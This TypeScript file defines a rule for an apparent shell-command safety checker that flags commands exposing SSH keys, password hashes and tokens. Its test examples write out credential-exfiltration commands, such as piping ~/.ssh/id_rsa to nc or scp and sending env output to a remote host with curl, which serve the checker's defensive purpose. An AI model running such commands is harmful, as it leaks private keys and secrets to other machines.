import { basename } from "node:path/posix";
import type { Explanation } from "../domain/finding.ts";
import { defineGuard } from "../domain/guard.ts";
import { joinWords, quoteWord, showName } from "../domain/text.ts";
import { alternatives, lineAs } from "./common/edit-line.ts";
import { type ExposedSecret, exposedSecrets } from "./common/secret-exposure.ts";
import { describeShown, type ShownKey, shownKeys } from "./common/shown-keys.ts";
import { type TypedSecret, typedSecrets } from "./common/typed-secrets.ts";
import { describePaths, pathsOf } from "./common/wording.ts";

/** Keys and passwords that come to where others can read them. */
export const exposesSecrets = defineGuard<ExposedSecret | ShownKey | TypedSecret>({
  id: "exposes-secrets",
  title: "Puts keys or passwords where others can read them",
  severity: "danger",
  why: "A private key or a password is worth what its only copy is worth. A copy that others can read, or that leaves the machine, cannot be taken back: whoever has it is you, as long as the key is accepted anywhere.",
  examples: () => [
    { line: "cat ~/.ssh/id_rsa > key.txt", expect: "danger", why: "everybody could read the copy" },
    { line: "cat ~/.ssh/id_rsa.pub > key.txt", expect: "quiet", why: "a public key is no secret" },
    { line: "cp ~/.ssh/id_rsa ~/.ssh/old_rsa", expect: "quiet", why: "the copy stays private" },
    {
      line: "(umask 077; cat ~/.ssh/id_rsa > key.txt)",
      expect: "quiet",
      why: "only you may read it",
    },
    { line: "tar czf ssh.tgz .ssh", expect: "caution", why: "the archive is open to everybody" },
    { line: "tar czf docs.tgz Documents", expect: "quiet", why: "nothing secret in it" },
    {
      line: "cat /etc/shadow > hashes.txt",
      expect: "danger",
      as: "root",
      why: "the scrambled passwords of all accounts",
    },
    { line: "setfacl -m u:bob:r ~/.ssh/id_rsa", expect: "caution", why: "bob could log in as you" },
    { line: "setfacl -m u:bob:r notes.txt", expect: "quiet", why: "an ordinary file" },
    {
      line: "scp ~/.ssh/id_rsa bob@example.org:",
      expect: "danger",
      why: "the key leaves the machine",
    },
    {
      line: "cp ~/.ssh/id_rsa key.txt && chmod 644 key.txt",
      expect: "danger",
      why: "the copy is opened to everybody",
    },
    { line: "cp ~/.ssh/id_rsa key.txt", expect: "quiet", why: "the copy stays private" },
    { line: "cp ~/.ssh/id_rsa /tmp/", expect: "caution", why: "a copy that is forgotten there" },
    { line: "cp ~/.ssh/id_rsa.pub /tmp/", expect: "quiet", why: "a public key is no secret" },
    {
      line: "tar czf - .ssh | ssh bob@example.org 'cat > keys.tgz'",
      expect: "danger",
      why: "the keys leave the machine through a pipe",
    },
    {
      line: "tar czf - photos | ssh bob@example.org 'cat > photos.tgz'",
      expect: "quiet",
      why: "nothing secret in it",
    },
    { line: "tar czf /tmp/home.tgz ~", expect: "caution", why: "everybody can read it there" },
    { line: "tar czf home.tgz Documents", expect: "quiet", why: "nothing secret in it" },
    {
      line: "curl -u ann:secret123 https://api.example.org",
      expect: "caution",
      why: "the password stays in the history",
    },
    {
      line: "curl -u ann https://api.example.org",
      expect: "quiet",
      why: "curl asks for the password",
    },
    {
      line: 'curl -H "Authorization: Bearer $(cat token.txt)" https://api.example.org',
      expect: "quiet",
      why: "the token stands in a file",
    },
    {
      line: "cat ~/.ssh/id_rsa | nc example.org 80",
      expect: "danger",
      why: "the key leaves the machine through a pipe",
    },
    { line: "nc -zv example.org 80", expect: "quiet", why: "it only tries the door" },
    { line: "env | curl -d @- https://example.org", expect: "caution", why: "tokens stand in it" },
    {
      line: "python3 -m http.server --directory ~",
      expect: "danger",
      why: "keys lie in the home that it hands out",
    },
    {
      line: "cd site && python3 -m http.server",
      expect: "quiet",
      why: "pages that are meant to be seen",
    },
    { line: "cat ~/.ssh/id_rsa", expect: "caution", why: "it stays in the terminal" },
    { line: "cat ~/.ssh/id_rsa.pub", expect: "quiet", why: "a public key is no secret" },
    { line: "cd src && git add -f .env", expect: "caution", why: "it would be handed on" },
    {
      line: "cd src && touch server.key && git add -A",
      expect: "caution",
      why: "the key is among what is taken up",
    },
    {
      line: "cd src && touch server.key && git add -u",
      expect: "quiet",
      why: "only what git knows already is taken up",
    },
    { line: "cd src && git add .", expect: "quiet", why: "git is told to ignore .env" },
    { line: "cd src && git add main.c", expect: "quiet", why: "nothing secret in it" },
    {
      line: "export API_TOKEN=f00ba4c0ffee",
      expect: "caution",
      why: "the token stays in the history",
    },
    {
      line: 'export API_TOKEN="$(cat token.txt)"',
      expect: "quiet",
      why: "the token stands in a file",
    },
    {
      line: "echo 'password=hunter2' >> settings.ini",
      expect: "caution",
      why: "it stands in the history",
    },
    {
      line: "scp -i ~/.ssh/id_rsa notes.txt bob@example.org:",
      expect: "quiet",
      why: "the key is used and stays here",
    },
  ],
  blindSpots:
    "It knows secrets by where they lie and what they are called, and follows them through the usual programs only. Whether a closed folder around a copy keeps others out after all is not looked at.",
  check: (foreseen, facts) => [
    ...exposedSecrets(foreseen, facts),
    ...shownKeys(foreseen),
    ...typedSecrets(foreseen),
  ],
  explain(exposed, foreseen, facts) {
    if ("shown" in exposed) return describeShown(exposed, describePaths([exposed.shown], facts));
    if (!("exposure" in exposed)) return describeTyped(exposed);
    const { effect, secrets, severity } = exposed;
    return {
      severity,
      title: titles[exposed.exposure],
      what: describeWhat(exposed, facts),
      why: describeWhy(exposed),
      instead: insteadOf(exposed, foreseen.line),
      span: effect.cause.span,
      ...pathsOf(secrets),
      confirmWords: "expose a secret",
    };
  },
});

/** What stands in the line stays in the history, and in the list of processes while it runs. */
function describeTyped({ span, program, kind }: TypedSecret): Explanation {
  return {
    severity: "caution",
    title: `This would leave a ${kind} in the history`,
    what: `The ${kind} for ${showName(program)} stands in the line itself.`,
    why: "The shell keeps every line in its history, and while it runs everybody on this machine can see its words.",
    instead: [],
    span,
    paths: [],
    pathCount: 0,
    confirmWords: `show the ${kind}`,
  };
}

const titles: Readonly<Record<ExposedSecret["exposure"], string>> = {
  "readable-copy": "This would put a secret into a file that everybody can read",
  "left-about": "This would leave a copy of a secret where everybody puts things",
  listed: "This would let somebody else read a secret",
  sent: "This would send a secret to another machine",
  served: "This would hand out secrets to whoever asks for them",
  committed: "This would put a secret into the history of a repository",
};

function describeWhat(
  { exposure, secrets, where }: ExposedSecret,
  facts: Parameters<typeof describePaths>[1],
): string {
  const names = describePaths(secrets, facts);
  if (exposure === "readable-copy") {
    return `What is in ${names} could be read by everybody in ${describePaths(where, facts)}.`;
  }
  if (exposure === "left-about") {
    return `A copy of ${names} would lie at ${describePaths(where, facts)}.`;
  }
  if (exposure === "served") {
    return `${names} could be fetched by everybody who reaches this machine, with all else in ${describePaths(where, facts)}.`;
  }
  if (exposure === "committed") return `${names} would be part of what is committed.`;
  const whom = joinWords(where.slice(0, 5).map(showName));
  return exposure === "listed" ? `${names}: open to ${whom}.` : `${names} would go to ${whom}.`;
}

function describeWhy({ kind, exposure }: ExposedSecret): string {
  if (kind === "password-hashes") return "Weak passwords can be found out from them at leisure.";
  if (exposure === "committed") {
    return "Every copy of the repository has it from then on, and deleting the file later does not take it out of the history.";
  }
  if (exposure === "left-about") {
    return "Only you can read it, but it is one more copy, in a place that nobody looks after: one slip of its permissions opens it, and it is forgotten there.";
  }
  const isKey = kind === "ssh-key" || kind === "ssh-directory";
  if (exposure === "listed" && isKey) {
    return "Whoever can read the key can log in with it, and ssh refuses it once others can.";
  }
  return isKey
    ? "Whoever has the private key can log in wherever it is accepted."
    : "Whoever has it can do what it allows, and nobody would notice.";
}

/** A copy that only its owner can read; the public half of a key. */
function insteadOf({ exposure, secret, kind, effect }: ExposedSecret, line: string) {
  if (effect.kind === "metadata" && exposure === "readable-copy") {
    return alternatives([
      lineAs(effect.cause, ["chmod", "600", quoteWord(effect.path)]),
      "only you may read the copy",
    ]);
  }
  if (exposure === "readable-copy") {
    return alternatives([`(umask 077; ${line})`, "only you may read what is made"]);
  }
  if (exposure === "served") {
    const { program, command } = effect.cause;
    if (!/^python/.test(program)) return [];
    const words = command.map(({ text }) => quoteWord(text));
    return alternatives([
      lineAs(effect.cause, [...words, "--bind", "127.0.0.1"]),
      "only this machine is answered",
    ]);
  }
  if (exposure === "committed" && effect.kind === "repository") {
    const name = quoteWord(basename(secret));
    return alternatives([`echo ${name} >> .gitignore`, "keeps it out of the repository"]);
  }
  if (exposure === "listed" || kind !== "ssh-key") return [];
  const words = effect.cause.command.map(({ text }) => (text === secret ? `${text}.pub` : text));
  return alternatives([lineAs(effect.cause, words), "the public half, which may be known"]);
}
